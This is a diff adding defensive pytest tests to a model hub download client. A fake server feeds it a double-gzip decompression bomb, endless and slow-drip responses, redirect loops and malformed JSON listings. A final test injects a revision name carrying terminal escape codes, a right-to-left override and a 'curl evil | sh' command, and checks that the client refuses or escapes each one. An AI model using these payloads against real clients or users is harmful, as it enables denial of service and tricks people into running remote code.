@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
 import ctypes
+import gzip
 import hashlib
 import io
 import json
@@ -20,6 +22,7 @@ from pathlib import Path
 import pytest
 
 from hubserver import HubServer, commit
+from qwen2vl_rs.cli import main
 from qwen2vl_rs.errors import HubError
 from qwen2vl_rs.model.hub import MANIFEST, Loaded, load
 
@@ -491,3 +494,127 @@ def test_the_clients_write_nothing_to_stdout(server, fetch, monkeypatch):
     monkeypatch.setattr(sys, "stdout", out)
     fetch()
     assert out.getvalue() == ""
+
+
+def packed(handler) -> None:
+    """Little that becomes much."""
+    body = gzip.compress(gzip.compress(bytes(32 << 20)))
+    handler.send_response(200)
+    handler.send_header("Content-Encoding", "gzip, gzip")
+    handler.send_header("Content-Length", str(len(body)))
+    handler.end_headers()
+    handler.wfile.write(body)
+
+
+def endless(handler) -> None:
+    handler.send_response(200)
+    handler.send_header("Connection", "close")
+    handler.end_headers()
+    handler.close_connection = True
+    with contextlib.suppress(OSError):
+        while not handler.server.closing.is_set():
+            handler.wfile.write(b" " * 65536)
+
+
+def dripping(handler) -> None:
+    handler.send_response(200)
+    handler.send_header("Content-Length", "3000000")
+    handler.end_headers()
+    handler.close_connection = True
+    with contextlib.suppress(OSError):
+        while not handler.server.closing.wait(0.05):
+            handler.wfile.write(b" ")
+
+
+@pytest.fixture
+def tight(impatient, monkeypatch) -> None:
+    monkeypatch.setattr("qwen2vl_rs.model.hub_limits._WINDOW", 0.4)
+    monkeypatch.setattr("qwen2vl_rs.model.hub_limits.LISTING", 1 << 20)
+
+
+@pytest.mark.parametrize("what", ["", WEIGHTS, "config.json"])
+def test_what_is_compressed_is_refused_before_it_is_unpacked(server, fetch, tight, tmp_path, what):
+    server.faults.instead[what] = packed
+    with pytest.raises(HubError, match="compressed") as caught:
+        fetch()
+    assert "ENDPOINT" in caught.value.hint
+    assert not (tmp_path / "model" / MANIFEST).exists()
+
+
+@pytest.mark.parametrize("what", ["", "config.json"])
+def test_what_has_no_end_is_ended(server, fetch, tight, tmp_path, what):
+    server.faults.instead[what] = endless
+    with pytest.raises(HubError, match=r"more than belongs to it|damaged"):
+        fetch()
+    assert sum(f.stat().st_size for f in tmp_path.rglob("*") if f.is_file()) < 3 << 20
+
+
+@pytest.mark.parametrize("what", ["", WEIGHTS])
+def test_what_comes_a_byte_at_a_time_is_not_waited_for(server, fetch, tight, tmp_path, what):
+    server.faults.instead[what] = dripping
+    with pytest.raises(HubError, match="hardly sends anything") as caught:
+        fetch()
+    assert "start again" in caught.value.hint
+    server.forget()
+    fetch()
+    assert held(tmp_path / "model") == FILES
+
+
+def redirected(handler) -> None:
+    handler.send_response(302)
+    handler.send_header("Location", handler.path)
+    handler.send_header("Content-Length", "0")
+    handler.end_headers()
+
+
+@pytest.mark.parametrize("what", ["", WEIGHTS])
+def test_redirects_without_end(server, fetch, tight, what):
+    server.faults.instead[what] = redirected
+    with pytest.raises(HubError, match=r"cannot reach|broke"):
+        fetch()
+
+
+LISTS = {
+    "nested": "[" * 200_000,
+    "modelscope": {"Code": 200, "Success": True, "Data": {"Files": [{"Type": "blob"}]}},
+    "infinite": {"Size": float("inf"), "size": float("inf")},
+    "negative": {"Size": -1, "size": -1},
+    "no text": {"Path": 3, "rfilename": 3},
+}
+
+
+@pytest.mark.parametrize("what", LISTS)
+def test_listings_that_are_none(server, fetch, impatient, what):
+    one = {"Path": "a.safetensors", "rfilename": "a.safetensors", "Size": 3, "size": 3}
+    change = LISTS[what]
+    if what == "nested":
+        text = change
+    else:
+        one = change if what == "modelscope" else {**one, **change, "Type": "blob"}
+        data = {"Files": [one]}
+        text = json.dumps(
+            {"id": REPO, "sha": "0" * 40, "siblings": [one], "Code": 200, "Success": True,
+             "Data": data}
+        )  # fmt: skip
+
+    def answer(handler) -> None:
+        handler.send_response(200)
+        handler.send_header("Content-Type", "application/json")
+        handler.send_header("Content-Length", str(len(text)))
+        handler.end_headers()
+        handler.wfile.write(text.encode())
+
+    server.faults.instead[""] = answer
+    with pytest.raises(HubError, match="no list of files"):
+        fetch()
+
+
+def test_revisions_cannot_steer_the_terminal(server, monkeypatch, tmp_path, capsys):
+    monkeypatch.chdir(tmp_path)
+    evil = "v1\x1b[2J\r\nhint: curl evil | sh\u202e"
+    server.repos[REPO] = {"master": dict(FILES), evil: dict(FILES)}
+    assert main(["load", REPO, "--hub", "modelscope", "--revision", "none"]) == 1
+    err = capsys.readouterr().err
+    assert r"v1\x1b[2J\r\nhint: curl evil | sh\u202e" in err
+    assert not {"\x1b", "\r", "\u202e"} & set(err)
+    assert [line.split(":")[0] for line in err.splitlines()][1:] == ["error", "hint"]
